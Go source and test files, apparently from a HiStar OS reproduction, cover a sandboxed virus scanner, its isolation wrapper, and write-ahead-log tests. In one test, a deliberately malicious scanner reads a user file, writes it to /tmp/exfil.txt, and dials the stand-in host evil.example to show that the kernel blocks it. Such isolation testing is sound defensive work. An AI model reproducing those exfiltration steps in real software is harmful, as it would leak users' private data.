	for i := 0; i < b.N; i++ {
		client, err := sys.NewInitProcess("")
		if err != nil {
			b.Fatal(err)
		}
		if err := svc.Login(client, "bench", "passw0rd"); err != nil {
			b.Fatal(err)
		}
		client.ExitQuietly()
	}
}

// BenchmarkLoginSessionHit measures the credential re-check a session hit
// pays: one midstate-resumed hash and a constant-time compare.
func BenchmarkLoginSessionHit(b *testing.B) {
	_, svc := benchAuth(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := svc.Verify("bench", "passw0rd"); err != nil {
			b.Fatal(err)
		}
	}
}
