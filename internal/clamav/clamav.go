// Package clamav reproduces the paper's running example (Sections 1 and
// 6.1): an untrusted virus scanner, its helper decoders, and its update
// daemon, isolated by the small trusted wrap program.  The scanner is a
// byte-signature matcher in the spirit of ClamAV; the security argument does
// not depend on the scanner at all — that is the point — only on wrap and
// the kernel's label checks.
package clamav

import (
	"bufio"
	"bytes"
	"fmt"
	"strings"

	"histar/internal/label"
	"histar/internal/unixlib"
)

// Signature is one virus signature: a name and the byte pattern whose
// presence marks a file as infected.
type Signature struct {
	Name    string
	Pattern []byte
}

// Database is the virus signature database, stored as the file
// /var/clamav/db on the HiStar file system and updated by the update daemon.
type Database struct {
	Signatures []Signature
}

// DefaultDatabase returns a small built-in database used when no update has
// been fetched.
func DefaultDatabase() Database {
	return Database{Signatures: []Signature{
		{Name: "Eicar-Test-Signature", Pattern: []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR`)},
		{Name: "Worm.Slammer.Sim", Pattern: []byte{0x04, 0x01, 0x01, 0x01, 0x01, 0xdc, 0xc9, 0xb0}},
		{Name: "Trojan.Sircam.Sim", Pattern: []byte("SirC32.exe payload marker")},
	}}
}

// Encode serializes the database into the on-disk format (one "name:hexpattern"
// line per signature).
func (db Database) Encode() []byte {
	var b bytes.Buffer
	for _, sig := range db.Signatures {
		fmt.Fprintf(&b, "%s:%x\n", sig.Name, sig.Pattern)
	}
	return b.Bytes()
}

// ParseDatabase parses the on-disk database format.
func ParseDatabase(data []byte) (Database, error) {
	var db Database
	sc := bufio.NewScanner(bytes.NewReader(data))
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		name, hexpat, ok := strings.Cut(line, ":")
		if !ok {
			return Database{}, fmt.Errorf("clamav: malformed signature line %q", line)
		}
		var pat []byte
		if _, err := fmt.Sscanf(hexpat, "%x", &pat); err != nil {
			return Database{}, fmt.Errorf("clamav: bad pattern in %q: %v", line, err)
		}
		db.Signatures = append(db.Signatures, Signature{Name: name, Pattern: pat})
	}
	return db, sc.Err()
}

// Result is the outcome of scanning one file.
type Result struct {
	Path     string
	Infected bool
	Virus    string
	Bytes    int
}

// ScanBytes checks data against the database.
func ScanBytes(db Database, path string, data []byte) Result {
	r := Result{Path: path, Bytes: len(data)}
	for _, sig := range db.Signatures {
		if len(sig.Pattern) > 0 && bytes.Contains(data, sig.Pattern) {
			r.Infected = true
			r.Virus = sig.Name
			return r
		}
	}
	return r
}

// DatabasePath is where the scanner and update daemon keep the signature DB.
const DatabasePath = "/var/clamav/db"

// InstallDatabase writes db to the conventional path using proc's
// privileges (used by setup code and by the update daemon).
func InstallDatabase(proc *unixlib.Process, db Database) error {
	_ = proc.Mkdir("/var", label.New(label.L1))
	_ = proc.Mkdir("/var/clamav", label.New(label.L1))
	return proc.WriteFile(DatabasePath, db.Encode(), label.New(label.L1))
}

// LoadDatabase reads the database with proc's privileges, falling back to
// the built-in database when none is installed.
func LoadDatabase(proc *unixlib.Process) Database {
	data, err := proc.ReadFile(DatabasePath)
	if err != nil {
		return DefaultDatabase()
	}
	db, err := ParseDatabase(data)
	if err != nil {
		return DefaultDatabase()
	}
	return db
}

// Scanner is the untrusted scanner program body: it loads the database,
// scans every requested file (spawning "helper" work for archive-like
// inputs), and writes its report to the path given as the final argument.
// It runs with whatever label wrap gave its process — if that label taints
// it v3, nothing it does can reach the network or the update daemon.
func Scanner(p *unixlib.Process, args []string) int {
	if len(args) < 2 {
		return 2
	}
	reportPath := args[len(args)-1]
	files := args[:len(args)-1]
	db := LoadDatabase(p)
	var report bytes.Buffer
	exit := 0
	for _, path := range files {
		data, err := p.ReadFile(path)
		if err != nil {
			fmt.Fprintf(&report, "%s: ERROR %v\n", path, err)
			exit = 2
			continue
		}
		res := scanWithHelpers(db, path, data)
		if res.Infected {
			fmt.Fprintf(&report, "%s: FOUND %s\n", path, res.Virus)
			exit = 1
		} else {
			fmt.Fprintf(&report, "%s: OK (%d bytes)\n", path, res.Bytes)
		}
	}
	if err := p.WriteFile(reportPath, report.Bytes(), label.Label{}); err != nil {
		return 2
	}
	return exit
}

// scanWithHelpers models the scanner's helper programs: container formats
// are "decoded" (here: a simple framing) and each member scanned.
func scanWithHelpers(db Database, path string, data []byte) Result {
	if members, ok := decodeArchive(data); ok {
		for i, m := range members {
			res := ScanBytes(db, fmt.Sprintf("%s!member%d", path, i), m)
			if res.Infected {
				res.Bytes = len(data)
				return res
			}
		}
		return Result{Path: path, Bytes: len(data)}
	}
	return ScanBytes(db, path, data)
}

// Archive framing used by the simulated helper: "HARC" magic, then
// length-prefixed members.
func decodeArchive(data []byte) ([][]byte, bool) {
	if !bytes.HasPrefix(data, []byte("HARC")) {
		return nil, false
	}
	var members [][]byte
	p := data[4:]
	for len(p) >= 4 {
		n := int(uint32(p[0]) | uint32(p[1])<<8 | uint32(p[2])<<16 | uint32(p[3])<<24)
		p = p[4:]
		if n < 0 || n > len(p) {
			return members, true
		}
		members = append(members, p[:n])
		p = p[n:]
	}
	return members, true
}

// EncodeArchive builds the helper's archive framing (used by tests and the
// example workload generator).
func EncodeArchive(members ...[]byte) []byte {
	out := []byte("HARC")
	for _, m := range members {
		out = append(out, byte(len(m)), byte(len(m)>>8), byte(len(m)>>16), byte(len(m)>>24))
		out = append(out, m...)
	}
	return out
}

// UpdateDaemon is the update daemon program body: it "downloads" a new
// database (from the byte payload passed through args[0] in this
// reproduction) and installs it.  It runs with write privilege on the
// ClamAV executable and database but — on HiStar — no ability to read user
// data.
func UpdateDaemon(p *unixlib.Process, args []string) int {
	if len(args) < 1 {
		return 2
	}
	db, err := ParseDatabase([]byte(args[0]))
	if err != nil {
		return 2
	}
	if err := InstallDatabase(p, db); err != nil {
		return 1
	}
	return 0
}
