package clamav

import (
	"strings"
	"testing"
	"time"

	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/netd"
	"histar/internal/unixlib"
)

const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

func bootClam(t *testing.T) (*unixlib.System, *unixlib.Process) {
	t.Helper()
	sys, err := unixlib.Boot(unixlib.BootOptions{KernelConfig: kernel.Config{Seed: 7}})
	if err != nil {
		t.Fatal(err)
	}
	if err := sys.RegisterProgram(ScannerProgram, Scanner); err != nil {
		t.Fatal(err)
	}
	sys.RegisterProgram("/bin/freshclam", UpdateDaemon)
	bob, err := sys.NewInitProcess("bob")
	if err != nil {
		t.Fatal(err)
	}
	if err := InstallDatabase(bob, DefaultDatabase()); err != nil {
		t.Fatal(err)
	}
	return sys, bob
}

func TestScanBytesAndDatabaseRoundTrip(t *testing.T) {
	db := DefaultDatabase()
	enc := db.Encode()
	parsed, err := ParseDatabase(enc)
	if err != nil {
		t.Fatal(err)
	}
	if len(parsed.Signatures) != len(db.Signatures) {
		t.Fatalf("round trip lost signatures: %d vs %d", len(parsed.Signatures), len(db.Signatures))
	}
	if r := ScanBytes(parsed, "mem", []byte(eicar)); !r.Infected || r.Virus != "Eicar-Test-Signature" {
		t.Errorf("EICAR not detected: %+v", r)
	}
	if r := ScanBytes(parsed, "mem", []byte("perfectly clean data")); r.Infected {
		t.Errorf("false positive: %+v", r)
	}
	if _, err := ParseDatabase([]byte("garbage line without colon")); err == nil {
		t.Error("malformed database should fail to parse")
	}
}

func TestArchiveHelperScanning(t *testing.T) {
	db := DefaultDatabase()
	arc := EncodeArchive([]byte("clean member"), []byte(eicar))
	r := scanWithHelpers(db, "bundle.harc", arc)
	if !r.Infected {
		t.Error("infected archive member not detected")
	}
	clean := EncodeArchive([]byte("a"), []byte("b"))
	if r := scanWithHelpers(db, "c.harc", clean); r.Infected {
		t.Error("clean archive flagged")
	}
}

func TestWrapDetectsVirusAndUntaintsReport(t *testing.T) {
	_, bob := bootClam(t)
	if err := bob.WriteFile("/home/bob/clean.doc", []byte("quarterly numbers"), label.Label{}); err != nil {
		t.Fatal(err)
	}
	if err := bob.WriteFile("/home/bob/evil.exe", []byte("prefix"+eicar+"suffix"), label.Label{}); err != nil {
		t.Fatal(err)
	}
	res, err := Wrap(bob, []string{"/home/bob/clean.doc", "/home/bob/evil.exe"}, WrapOptions{Timeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitStatus != 1 {
		t.Errorf("exit status = %d, want 1 (infections found)", res.ExitStatus)
	}
	if len(res.Infected) != 1 || res.Infected[0] != "/home/bob/evil.exe" {
		t.Errorf("infected = %v", res.Infected)
	}
	if !strings.Contains(res.Report, "/home/bob/clean.doc: OK") {
		t.Errorf("report missing clean file: %q", res.Report)
	}
	// wrap's caller is not tainted in v afterwards (it owns v — that is what
	// lets it untaint the report and hand it back as plain data).
	lbl, _ := bob.TC.SelfLabel()
	if lv := lbl.Get(res.V); lv >= label.L2 {
		t.Errorf("caller should not be tainted in v, got level %v", lv)
	}
	if !lbl.Owns(res.V) {
		t.Error("wrap's caller should own the isolation category")
	}
}

func TestScannerCannotModifyUserFilesOrUntaintedDirs(t *testing.T) {
	sys, bob := bootClam(t)
	if err := bob.WriteFile("/home/bob/ledger.txt", []byte("balance=100"), label.Label{}); err != nil {
		t.Fatal(err)
	}
	// A malicious "scanner": tries to overwrite user data, drop a file in
	// /tmp for the update daemon, and exfiltrate through the network.
	inet, err := netd.New(sys, netd.Options{})
	if err != nil {
		t.Fatal(err)
	}
	inet.RegisterRemote("evil.example:80", func(req []byte) []byte { return []byte("thanks") })
	var (
		overwriteErr error
		tmpErr       error
		dialErr      error
		readOK       bool
	)
	sys.RegisterProgram("/bin/evilscan", func(p *unixlib.Process, args []string) int {
		data, err := p.ReadFile("/home/bob/ledger.txt")
		readOK = err == nil && string(data) == "balance=100"
		overwriteErr = p.WriteFile("/home/bob/ledger.txt", []byte("balance=0"), label.Label{})
		tmpErr = p.WriteFile("/tmp/exfil.txt", data, label.New(label.L1))
		_, dialErr = netd.Dial(inet, p, "evil.example:80")
		// Still write a report so wrap does not hang.
		if len(args) > 0 {
			_ = p.WriteFile(args[len(args)-1], []byte("/home/bob/ledger.txt: OK\n"), label.Label{})
		}
		return 0
	})
	// Run the malicious scanner through wrap by temporarily registering it
	// as the scanner binary path.
	sys.RegisterProgram(ScannerProgram, func(p *unixlib.Process, args []string) int {
		prog, _ := sys.LookupProgram("/bin/evilscan")
		return prog(p, args)
	})
	res, err := Wrap(bob, []string{"/home/bob/ledger.txt"}, WrapOptions{Timeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	_ = res
	if !readOK {
		t.Error("the scanner should be able to READ the user's files")
	}
	if overwriteErr == nil {
		t.Error("the scanner must not modify user files")
	}
	if tmpErr == nil {
		t.Error("the scanner must not create files in the shared /tmp")
	}
	if dialErr == nil {
		t.Error("the scanner must not reach the network")
	}
	// The user's data is intact.
	if data, _ := bob.ReadFile("/home/bob/ledger.txt"); string(data) != "balance=100" {
		t.Errorf("user data was modified: %q", data)
	}
}

func TestUpdateDaemonCannotReadUserData(t *testing.T) {
	sys, bob := bootClam(t)
	if err := bob.WriteFile("/home/bob/taxes.xls", []byte("SSN 123-45-6789"), label.Label{}); err != nil {
		t.Fatal(err)
	}
	// The update daemon runs as its own (non-bob) identity with write access
	// to the database but no ownership of bob's categories.
	updater, err := sys.NewInitProcess("clamav-updater")
	if err != nil {
		t.Fatal(err)
	}
	newDB := Database{Signatures: append(DefaultDatabase().Signatures,
		Signature{Name: "Fresh.Sig", Pattern: []byte("freshly-pushed-pattern")})}
	child, err := updater.Spawn("/bin/freshclam", []string{string(newDB.Encode())})
	if err != nil {
		t.Fatal(err)
	}
	if status, _ := updater.Wait(child); status != 0 {
		t.Fatalf("update daemon exit status %d", status)
	}
	// The update took effect...
	db := LoadDatabase(updater)
	found := false
	for _, s := range db.Signatures {
		if s.Name == "Fresh.Sig" {
			found = true
		}
	}
	if !found {
		t.Error("database update did not take effect")
	}
	// ...but the updater cannot read bob's files.
	if _, err := updater.ReadFile("/home/bob/taxes.xls"); err == nil {
		t.Error("update daemon must not read user data")
	}
}

func TestWrapTimeoutKillsScanner(t *testing.T) {
	sys, bob := bootClam(t)
	sys.RegisterProgram(ScannerProgram, func(p *unixlib.Process, args []string) int {
		// A scanner that never terminates (e.g. leaking via timing).
		for i := 0; ; i++ {
			time.Sleep(10 * time.Millisecond)
			if i > 10000 {
				return 0
			}
		}
	})
	_, err := Wrap(bob, []string{"/home/bob/nothing"}, WrapOptions{Timeout: 200 * time.Millisecond})
	if err != ErrScannerTimeout {
		t.Errorf("expected timeout, got %v", err)
	}
}
