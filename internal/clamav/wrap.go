package clamav

import (
	"errors"
	"fmt"
	"strings"
	"time"

	"histar/internal/label"
	"histar/internal/unixlib"
)

// Wrap is the paper's 110-line isolation program (Section 6.1).  It is the
// only component with untainting privileges for the scanner's category v:
// it allocates v, creates a private scratch directory writable at v3,
// launches the scanner tainted v3 (and ur3, so the scanner can read — but
// not modify or export — the user's files), waits for it, reads the report
// back with its ownership of v, and returns the untainted result to the
// caller.  As long as Wrap is correct, ClamAV cannot leak the contents of
// the files it scans, no matter how compromised it is.

// ScannerProgram is the path wrap launches; register clamav.Scanner there.
const ScannerProgram = "/bin/clamscan"

// WrapOptions tune the isolation wrapper.
type WrapOptions struct {
	// Timeout bounds how long the scanner may run before wrap kills it,
	// limiting how much it could leak over covert channels.
	Timeout time.Duration
	// KeepScratch leaves the private scratch directory in place (debugging).
	KeepScratch bool
}

// WrapResult is what wrap reports back to the user.
type WrapResult struct {
	// Report is the scanner's (untainted) per-file output.
	Report string
	// Infected lists files the scanner flagged.
	Infected []string
	// ExitStatus is the scanner's exit status (0 clean, 1 infections found,
	// 2 errors).
	ExitStatus int
	// TimedOut reports whether wrap killed the scanner at the deadline.
	TimedOut bool
	// V is the isolation category wrap allocated (exposed for tests).
	V label.Category
}

// ErrScannerTimeout is reported when the scanner exceeds its deadline.
var ErrScannerTimeout = errors.New("clamav: scanner timed out")

// Wrap scans the given files on behalf of user (a process running with the
// user's privileges) and returns the untainted result.
func Wrap(user *unixlib.Process, files []string, opts WrapOptions) (*WrapResult, error) {
	if opts.Timeout == 0 {
		opts.Timeout = 30 * time.Second
	}
	tc := user.TC

	// Allocate the isolation category.  wrap — running with the user's
	// privileges — is its only owner.
	v, err := tc.CategoryCreateNamed("v")
	if err != nil {
		return nil, err
	}

	// Private scratch directory, writable at taint level 3 in v: the tainted
	// scanner can write its report there and nowhere else.
	scratch := fmt.Sprintf("/tmp/wrap-%d", user.PID)
	scratchLabel := label.New(label.L1, label.P(v, label.L3))
	if user.User != nil {
		scratchLabel = scratchLabel.With(user.User.Ur, label.L3)
	}
	if err := user.Mkdir(scratch, scratchLabel); err != nil {
		return nil, fmt.Errorf("wrap: creating scratch dir: %w", err)
	}
	reportPath := scratch + "/report"

	// Launch the scanner tainted v3.  It also gets ur3 so it can read the
	// user's files; it gets no ownership of anything.
	taint := []label.Pair{label.P(v, label.L3)}
	if user.User != nil {
		taint = append(taint, label.P(user.User.Ur, label.L3))
	}
	args := append(append([]string{}, files...), reportPath)
	scanner, err := user.SpawnTainted(ScannerProgram, args, taint)
	if err != nil {
		return nil, fmt.Errorf("wrap: launching scanner: %w", err)
	}

	// Wait with a deadline; killing the scanner bounds covert-channel
	// leakage through timing.
	res := &WrapResult{V: v}
	status, timedOut := waitWithTimeout(user, scanner, opts.Timeout)
	res.ExitStatus = status
	res.TimedOut = timedOut
	if timedOut {
		return res, ErrScannerTimeout
	}

	// Read the (tainted) report with wrap's ownership of v and untaint it by
	// returning it as plain data to the caller.
	data, err := user.ReadFile(reportPath)
	if err != nil {
		return nil, fmt.Errorf("wrap: reading report: %w", err)
	}
	res.Report = string(data)
	for _, line := range strings.Split(res.Report, "\n") {
		if strings.Contains(line, ": FOUND ") {
			res.Infected = append(res.Infected, strings.SplitN(line, ":", 2)[0])
		}
	}
	if !opts.KeepScratch {
		_ = user.Unlink(reportPath)
		_ = user.Unlink(scratch)
	}
	return res, nil
}

// waitWithTimeout waits for child to exit, or halts it at the deadline.
func waitWithTimeout(parent, child *unixlib.Process, timeout time.Duration) (status int, timedOut bool) {
	done := make(chan int, 1)
	go func() {
		st, err := parent.Wait(child)
		if err != nil {
			st = 2
		}
		done <- st
	}()
	select {
	case st := <-done:
		return st, false
	case <-time.After(timeout):
		// Kill the scanner: halt its main thread and reap it.
		_ = child.TC.ThreadHalt()
		child.Exit(137)
		select {
		case st := <-done:
			return st, true
		case <-time.After(time.Second):
			return 137, true
		}
	}
}
