package wal

import (
	"bytes"
	"errors"
	"testing"

	"histar/internal/disk"
	"histar/internal/vclock"
)

// fuzzRegion bounds the log image size the fuzzer explores; big enough for
// multi-record logs, small enough to keep each execution cheap.
const fuzzRegion = 1 << 16

// logImage builds a disk whose log region holds exactly data.
func logImage(data []byte) *disk.Disk {
	d := disk.New(disk.Params{Sectors: fuzzRegion / disk.SectorSize}, &vclock.Clock{})
	if len(data) > 0 {
		_, _ = d.WriteAt(data, 0)
	}
	return d
}

// validImage returns the raw bytes of a committed log holding recs.
func validImage(tb testing.TB, recs []Record) []byte {
	tb.Helper()
	d := disk.New(disk.Params{Sectors: fuzzRegion / disk.SectorSize}, &vclock.Clock{})
	l, err := New(d, 0, fuzzRegion)
	if err != nil {
		tb.Fatal(err)
	}
	for _, r := range recs {
		l.Append(r)
	}
	if err := l.Commit(); err != nil {
		tb.Fatal(err)
	}
	img := make([]byte, fuzzRegion)
	if _, err := d.ReadAt(img, 0); err != nil {
		tb.Fatal(err)
	}
	return img
}

// FuzzRecover feeds arbitrary bytes to the log region and enforces the
// documented recovery contract: Recover never panics, returns only ErrCorrupt
// (or nil) for any byte-level damage, and whatever records it does return
// survive a reseal — recovering again after the implicit reseal yields the
// same records with no error.
func FuzzRecover(f *testing.F) {
	f.Add([]byte{})
	f.Add(validImage(f, []Record{{ObjectID: 1, Data: []byte("object one")}}))
	f.Add(validImage(f, []Record{
		{ObjectID: 2, Data: []byte("labeled"), Label: []byte{2, 1, 17, 0, 0, 0, 0, 0, 0, 0, 3}},
		{ObjectID: 3, Delete: true},
	}))
	// A corrupted committed length and a torn record tail.
	img := validImage(f, []Record{{ObjectID: 4, Data: bytes.Repeat([]byte("x"), 100)}})
	img[9] = 0x7f
	f.Add(append([]byte(nil), img...))
	f.Add(img[:40])

	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > fuzzRegion {
			data = data[:fuzzRegion]
		}
		d := logImage(data)
		l := Open(d, 0, fuzzRegion)
		recs, err := l.Recover()
		if errors.Is(err, ErrVersion) {
			// A future-format log: the refusal must be stable and must not
			// have modified the region.
			if _, err2 := Open(d, 0, fuzzRegion).Recover(); !errors.Is(err2, ErrVersion) {
				t.Fatalf("version refusal not stable: %v then %v", err, err2)
			}
			return
		}
		if err != nil && !errors.Is(err, ErrCorrupt) {
			t.Fatalf("Recover returned a non-corruption error: %v", err)
		}
		// Recovery reseals the log to the valid prefix; a second recovery
		// must reproduce exactly the same records, cleanly.
		recs2, err2 := Open(d, 0, fuzzRegion).Recover()
		if err2 != nil {
			t.Fatalf("second recovery after reseal failed: %v (first: %v)", err2, err)
		}
		if len(recs2) != len(recs) {
			t.Fatalf("reseal changed the record count: %d -> %d", len(recs), len(recs2))
		}
		for i := range recs {
			a, b := recs[i], recs2[i]
			if a.ObjectID != b.ObjectID || a.Delete != b.Delete ||
				!bytes.Equal(a.Data, b.Data) || !bytes.Equal(a.Label, b.Label) {
				t.Fatalf("record %d changed across reseal: %+v -> %+v", i, a, b)
			}
		}
	})
}

// TestRecoverCorruptionPrefixContract damages every byte position of a valid
// multi-record log in turn and asserts the documented contract exactly: the
// records returned are always a prefix of what was committed, and any
// shortfall is reported as ErrCorrupt.
func TestRecoverCorruptionPrefixContract(t *testing.T) {
	want := []Record{
		{ObjectID: 1, Data: []byte("first record")},
		{ObjectID: 2, Data: []byte("second"), Label: []byte{2, 1, 5, 0, 0, 0, 0, 0, 0, 0, 3}},
		{ObjectID: 3, Delete: true},
	}
	img := validImage(t, want)
	used := logHeaderSize
	for _, r := range want {
		used += int(encodedSize(r))
	}
	for pos := 0; pos < used; pos++ {
		mut := append([]byte(nil), img...)
		mut[pos] ^= 0xff
		recs, err := Open(logImage(mut), 0, fuzzRegion).Recover()
		if pos == 4 {
			// The version byte: damage here is NOT mistaken for a future
			// format — the header CRC no longer matches, so it is reported
			// as corruption rather than refused as ErrVersion.
			if !errors.Is(err, ErrCorrupt) {
				t.Fatalf("pos 4: err=%v, want ErrCorrupt", err)
			}
			continue
		}
		if err != nil && !errors.Is(err, ErrCorrupt) {
			t.Fatalf("pos %d: non-corruption error %v", pos, err)
		}
		if len(recs) > len(want) {
			t.Fatalf("pos %d: more records than committed (%d)", pos, len(recs))
		}
		for i, r := range recs {
			if r.ObjectID != want[i].ObjectID || r.Delete != want[i].Delete ||
				!bytes.Equal(r.Data, want[i].Data) || !bytes.Equal(r.Label, want[i].Label) {
				t.Fatalf("pos %d: record %d = %+v, want prefix of committed records", pos, i, r)
			}
		}
		// Since the header gained its own CRC, a damaged magic is no longer
		// mistaken for a never-formatted region: EVERY damaged byte that
		// loses records must be reported.
		if len(recs) < len(want) && err == nil {
			t.Fatalf("pos %d: lost records without ErrCorrupt (%d/%d)", pos, len(recs), len(want))
		}
	}
}
