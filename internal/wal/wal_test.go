package wal

import (
	"bytes"
	"errors"
	"testing"

	"histar/internal/disk"
	"histar/internal/vclock"
)

func testLog(t *testing.T, size int64) (*Log, *disk.Disk) {
	t.Helper()
	d := disk.New(disk.Params{Sectors: 1 << 15}, &vclock.Clock{})
	l, err := New(d, 0, size)
	if err != nil {
		t.Fatal(err)
	}
	return l, d
}

func TestCommitAndRecover(t *testing.T) {
	l, d := testLog(t, 1<<20)
	l.Append(Record{ObjectID: 1, Data: []byte("object one")})
	l.Append(Record{ObjectID: 2, Data: []byte("object two")})
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	l.Append(Record{ObjectID: 3, Delete: true})
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}

	// Reattach (as after a reboot) and recover.
	l2 := Open(d, 0, 1<<20)
	recs, err := l2.Recover()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 {
		t.Fatalf("recovered %d records", len(recs))
	}
	if recs[0].ObjectID != 1 || !bytes.Equal(recs[0].Data, []byte("object one")) {
		t.Errorf("record 0 = %+v", recs[0])
	}
	if !recs[2].Delete || recs[2].ObjectID != 3 {
		t.Errorf("record 2 = %+v", recs[2])
	}
}

func TestUncommittedRecordsAreNotRecovered(t *testing.T) {
	l, d := testLog(t, 1<<20)
	l.Append(Record{ObjectID: 1, Data: []byte("committed")})
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	l.Append(Record{ObjectID: 2, Data: []byte("lost")})
	// No commit: a crash discards it.
	recs, err := Open(d, 0, 1<<20).Recover()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1 || recs[0].ObjectID != 1 {
		t.Errorf("recovered %+v", recs)
	}
}

func TestTruncate(t *testing.T) {
	l, d := testLog(t, 1<<20)
	l.Append(Record{ObjectID: 1, Data: make([]byte, 100)})
	l.Commit()
	if l.CommittedBytes() == 0 {
		t.Fatal("expected committed bytes")
	}
	if err := l.Truncate(); err != nil {
		t.Fatal(err)
	}
	if l.CommittedBytes() != 0 {
		t.Error("truncate should reset committed bytes")
	}
	recs, err := Open(d, 0, 1<<20).Recover()
	if err != nil || len(recs) != 0 {
		t.Errorf("recover after truncate: %d records, %v", len(recs), err)
	}
}

func TestLogFull(t *testing.T) {
	l, _ := testLog(t, 4096)
	l.Append(Record{ObjectID: 1, Data: make([]byte, 8192)})
	if err := l.Commit(); !errors.Is(err, ErrFull) {
		t.Errorf("commit into tiny log: err=%v", err)
	}
}

func TestEmptyCommitIsNoop(t *testing.T) {
	l, _ := testLog(t, 1<<20)
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	commits, _, _ := l.Stats()
	if commits != 0 {
		t.Errorf("empty commit counted: %d", commits)
	}
}

func TestCorruptRecordDetected(t *testing.T) {
	l, d := testLog(t, 1<<20)
	l.Append(Record{ObjectID: 7, Data: []byte("good record")})
	l.Append(Record{ObjectID: 8, Data: []byte("to be damaged")})
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	// Flip a byte inside the second record's data area.
	evil := []byte{0xff}
	if _, err := d.WriteAt(evil, 16+17+11+17+4); err != nil {
		t.Fatal(err)
	}
	recs, err := Open(d, 0, 1<<20).Recover()
	if !errors.Is(err, ErrCorrupt) {
		t.Fatalf("expected ErrCorrupt, got %v (recs=%d)", err, len(recs))
	}
	if len(recs) != 1 || recs[0].ObjectID != 7 {
		t.Errorf("records before damage should survive: %+v", recs)
	}
}

func TestRecoverFreshRegion(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 12}, &vclock.Clock{})
	l := Open(d, 0, 1<<16)
	recs, err := l.Recover()
	if err != nil || len(recs) != 0 {
		t.Errorf("fresh region: %d recs, %v", len(recs), err)
	}
}

func TestGroupCommitBatchesManyRecords(t *testing.T) {
	l, _ := testLog(t, 1<<22)
	for i := 0; i < 1000; i++ {
		l.Append(Record{ObjectID: uint64(i), Data: make([]byte, 64)})
	}
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	commits, _, appended := l.Stats()
	if commits != 1 || appended != 1000 {
		t.Errorf("commits=%d appended=%d", commits, appended)
	}
}
