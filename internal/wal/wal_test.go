package wal

import (
	"bytes"
	"encoding/binary"
	"errors"
	"hash/crc32"
	"testing"

	"histar/internal/disk"
	"histar/internal/vclock"
)

func testLog(t *testing.T, size int64) (*Log, *disk.Disk) {
	t.Helper()
	d := disk.New(disk.Params{Sectors: 1 << 15}, &vclock.Clock{})
	l, err := New(d, 0, size)
	if err != nil {
		t.Fatal(err)
	}
	return l, d
}

func TestCommitAndRecover(t *testing.T) {
	l, d := testLog(t, 1<<20)
	l.Append(Record{ObjectID: 1, Data: []byte("object one")})
	l.Append(Record{ObjectID: 2, Data: []byte("object two")})
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	l.Append(Record{ObjectID: 3, Delete: true})
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}

	// Reattach (as after a reboot) and recover.
	l2 := Open(d, 0, 1<<20)
	recs, err := l2.Recover()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 {
		t.Fatalf("recovered %d records", len(recs))
	}
	if recs[0].ObjectID != 1 || !bytes.Equal(recs[0].Data, []byte("object one")) {
		t.Errorf("record 0 = %+v", recs[0])
	}
	if !recs[2].Delete || recs[2].ObjectID != 3 {
		t.Errorf("record 2 = %+v", recs[2])
	}
}

func TestUncommittedRecordsAreNotRecovered(t *testing.T) {
	l, d := testLog(t, 1<<20)
	l.Append(Record{ObjectID: 1, Data: []byte("committed")})
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	l.Append(Record{ObjectID: 2, Data: []byte("lost")})
	// No commit: a crash discards it.
	recs, err := Open(d, 0, 1<<20).Recover()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1 || recs[0].ObjectID != 1 {
		t.Errorf("recovered %+v", recs)
	}
}

func TestTruncate(t *testing.T) {
	l, d := testLog(t, 1<<20)
	l.Append(Record{ObjectID: 1, Data: make([]byte, 100)})
	l.Commit()
	if l.CommittedBytes() == 0 {
		t.Fatal("expected committed bytes")
	}
	if err := l.Truncate(); err != nil {
		t.Fatal(err)
	}
	if l.CommittedBytes() != 0 {
		t.Error("truncate should reset committed bytes")
	}
	recs, err := Open(d, 0, 1<<20).Recover()
	if err != nil || len(recs) != 0 {
		t.Errorf("recover after truncate: %d records, %v", len(recs), err)
	}
}

func TestLogFull(t *testing.T) {
	l, _ := testLog(t, 4096)
	// A record that would fit an empty region but not the remaining space:
	// recoverable, so Commit reports ErrFull and keeps it pending.
	if err := l.Append(Record{ObjectID: 1, Data: make([]byte, 2500)}); err != nil {
		t.Fatal(err)
	}
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	if err := l.Append(Record{ObjectID: 2, Data: make([]byte, 2500)}); err != nil {
		t.Fatal(err)
	}
	if err := l.Commit(); !errors.Is(err, ErrFull) {
		t.Errorf("commit into full log: err=%v", err)
	}
	// A record that could never fit is rejected at Append instead.
	if err := l.Append(Record{ObjectID: 3, Data: make([]byte, 8192)}); !errors.Is(err, ErrTooLarge) {
		t.Errorf("append of oversize record: err=%v", err)
	}
}

func TestEmptyCommitIsNoop(t *testing.T) {
	l, _ := testLog(t, 1<<20)
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	if st := l.Stats(); st.Commits != 0 {
		t.Errorf("empty commit counted: %d", st.Commits)
	}
}

func TestCorruptRecordDetected(t *testing.T) {
	l, d := testLog(t, 1<<20)
	l.Append(Record{ObjectID: 7, Data: []byte("good record")})
	l.Append(Record{ObjectID: 8, Data: []byte("to be damaged")})
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	// Flip a byte inside the second record's data area.
	evil := []byte{0xff}
